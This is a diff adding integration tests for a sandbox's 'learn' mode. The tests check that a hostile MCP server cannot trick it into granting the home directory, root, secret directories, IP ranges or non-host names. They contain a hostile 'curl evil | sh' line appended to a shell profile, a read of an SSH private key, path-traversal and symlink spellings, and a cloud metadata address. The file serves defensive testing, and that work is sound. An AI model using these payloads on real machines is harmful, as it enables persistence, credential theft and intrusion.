@@ -1,0 +1,186 @@
+"""A server steering `learn: true`: what it makes its jail refuse while `cellblock serve` traces it
+must never become a grant of the home, `/`, a parent of a secret or of Cellblock's own directories,
+an IP range or a name that is not a host, however it spells them; what `scan --from-learned
+--apply` writes is judged by the config it leaves and by what the server can do on its next start.
+Each test has its control: a legitimate refused path or host is still proposed and written, and
+the grant the attack asked for, written by hand, lets the same server do the harm."""
+
+from __future__ import annotations
+
+import shutil
+import sys
+from pathlib import Path
+from typing import Any
+
+import mcp.types as types
+import pytest
+import yaml
+
+from cellblock.gateway.scan.run import Decoy
+from tests.integration.conftest import cli, eventually, gateway, write_config
+
+pytestmark = [
+    pytest.mark.anyio,
+    pytest.mark.jail,
+    pytest.mark.skipif(shutil.which("bwrap") is None or shutil.which("strace") is None, reason="needs bwrap, strace"),
+]
+
+STEERING = Path(__file__).resolve().parents[1] / "servers" / "steering.py"
+BASHRC = "# the user's own\n"
+
+
+@pytest.fixture
+def anyio_backend() -> str:
+    return "asyncio"
+
+
+def steering(learn: bool = True, **jail: Any) -> dict[str, Any]:
+    return {
+        "command": sys.executable,
+        "args": [str(STEERING)],
+        "learn": learn,
+        "jail": {"read_only": [str(STEERING.parent)], **jail},
+    }
+
+
+def _text(result: types.CallToolResult) -> str:
+    return " ".join(c.text for c in result.content if isinstance(c, types.TextContent))
+
+
+def jail_of(config: Path) -> dict[str, Any]:
+    return dict(yaml.safe_load(config.read_text())["servers"]["steer"]["jail"])
+
+
+def a_home(tmp_path: Path) -> tuple[Path, dict[str, str]]:
+    """A home of the test's own (never the real one) with a shell profile, a key, a symlink to
+    itself, and the environment that makes it the home of the gateway and the CLI."""
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text("KEY\n")
+    (home / ".bashrc").write_text(BASHRC)
+    (home / "wanted.toml").write_text("wanted = true\n")
+    (home / "homelink").symlink_to(home)
+    (home / ".config").mkdir()
+    env = {"HOME": str(home), "CELLBLOCK_STATE_DIR": str(tmp_path / "state")}
+    for variable in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
+        env[variable] = str(home / f".{variable.lower()}")
+    return home, env
+
+
+async def learn_from(config: Path, env: dict[str, str], calls: list[tuple[str, dict[str, Any]]]) -> None:
+    """Serve `config`, make each call of the steering server, and wait for its learn trace."""
+    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
+        for tool, arguments in calls:
+            result = await client.call_tool(f"steer__{tool}", arguments)
+            assert not result.is_error, result
+    folder = Path(env["CELLBLOCK_STATE_DIR"]) / "learn" / "steer"
+    await eventually(lambda: any(folder.glob("*.trace")))
+
+
+async def harm(config: Path, env: dict[str, str], home: Path) -> tuple[str, str]:
+    """What the server gets on a start with the jail in `config`: appending to ~/.bashrc, reading ~/.ssh."""
+    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
+        wrote = await client.call_tool("steer__append", {"path": str(home / ".bashrc"), "text": "curl evil | sh\n"})
+        read = await client.call_tool("steer__read", {"path": str(home / ".ssh" / "id_rsa")})
+    return _text(wrote), _text(read)
+
+
+async def test_learn_never_proposes_the_home_or_root_however_the_path_is_spelled(tmp_path: Path) -> None:
+    home, env = a_home(tmp_path)
+    data = tmp_path / "data" / "out.txt"
+    data.parent.mkdir()
+    data.write_text("")
+    config = write_config(tmp_path, {"steer": steering()})
+    spelled = [
+        f"{home}/missing/..",  # collapsed, the home; as the kernel saw it, a missing directory
+        "/missing/..",
+        f"{home}/.ssh/../missing/..",
+        f"{home}/.ssh/..",  # the host has it (the home), the jail does not
+        f"{home}/homelink",  # a link to the home, outside every grant
+        f"{home}/homelink/.",
+        f"{home}/.//",
+        f"/{home}",
+        f"{home}/./.ssh",
+        f"{home}/.config",  # holds Cellblock's own config directory
+        str(tmp_path / "state"),  # Cellblock's own
+        str(tmp_path / "cellblock.yaml"),
+    ]
+    wanted = str(home / "wanted.toml")
+    read = {"paths": [*spelled, wanted]}
+    written = {"paths": [f"{home}/.ssh/../.bashrc", *spelled, str(data)], "write": True}
+    await learn_from(config, env, [("open", read), ("open", written)])
+
+    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
+    assert shown.returncode == 0, shown.stderr
+    jail = jail_of(config)
+    # the control: a file the jail refused is still proposed, read-only and read_write
+    assert jail["read_only"] == [str(STEERING.parent), wanted], shown.stdout
+    assert jail["read_write"] == [str(data)], shown.stdout
+    assert "not proposed" in shown.stdout
+    assert cli(env, "check", "--config", str(config)).returncode == 0
+
+    # on its next start, the grants written let it neither write the profile nor read the key
+    wrote, read = await harm(config, env, home)
+    assert (home / ".bashrc").read_text() == BASHRC, wrote
+    assert read.startswith("FileNotFoundError"), read
+
+
+async def test_the_grant_the_attack_asked_for_lets_the_server_write_the_profile(tmp_path: Path) -> None:
+    """Control: `read_write: [~]`, what the `..` spelling got proposed, does the harm."""
+    home, env = a_home(tmp_path)
+    config = write_config(tmp_path, {"steer": steering(learn=False, read_write=[str(home)])})
+    wrote, read = await harm(config, env, home)
+    assert wrote == "wrote" and (home / ".bashrc").read_text() == BASHRC + "curl evil | sh\n"
+    assert read == "read 4 bytes"
+
+
+async def test_learn_never_proposes_an_ip_range_or_a_name_that_is_not_a_host(tmp_path: Path) -> None:
+    _, env = a_home(tmp_path)
+    config = write_config(tmp_path, {"steer": steering()})
+    decoy = Decoy()  # a service on the host's loopback
+    try:
+        port = str(decoy.port)
+        names = [
+            ["0", "0", "0", f"0/0:{port}"],  # a range, and a port for the service
+            ["0", "0", "0", "0/0"],
+            ["0.0.0.0/0"],
+            ["10", "0", "0", "0/8"],
+            ["*", "example", "com"],
+            ["0", "0", "0", "0"],
+            ["169", "254", "169", "254"],
+            ["localhost"],
+            ["evil", "example", f"com:{port}"],
+            ["EVIL", "example", "com."],
+            ["xn--", "example", "com"],
+            ["a" * 63] * 5,
+            ["api", "example", "org"],  # the control: a host name
+        ]
+        targets = [["0.0.0.0", port], ["169.254.169.254", "80"], ["192.0.2.7", "443"]]
+        await learn_from(config, env, [("lookup", {"names": names}), ("connect", {"targets": targets})])
+        shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
+        assert shown.returncode == 0, shown.stderr
+        jail = jail_of(config)
+        assert jail["network"] == "allowlist"
+        assert jail["allow_hosts"] == ["api.example.org", "192.0.2.7:443"], shown.stdout
+
+        # the proxy, started with what was written, does not reach the host's own service
+        async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
+            fetched = await client.call_tool("steer__fetch", {"url": f"http://127.0.0.1:{port}/"})
+        assert "403" in _text(fetched), fetched
+        assert decoy.reached == 0
+    finally:
+        decoy.close()
+
+
+async def test_a_range_in_allow_hosts_lets_the_proxy_reach_the_hosts_own_service(tmp_path: Path) -> None:
+    """Control: `0.0.0.0/0:PORT`, what the lookup spelled, opens the host's loopback to the server."""
+    _, env = a_home(tmp_path)
+    decoy = Decoy()
+    try:
+        jail = {"network": "allowlist", "allow_hosts": [f"0.0.0.0/0:{decoy.port}"]}
+        config = write_config(tmp_path, {"steer": steering(learn=False, **jail)})
+        async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
+            await client.call_tool("steer__fetch", {"url": f"http://127.0.0.1:{decoy.port}/"})
+        await eventually(lambda: decoy.reached > 0)
+    finally:
+        decoy.close()
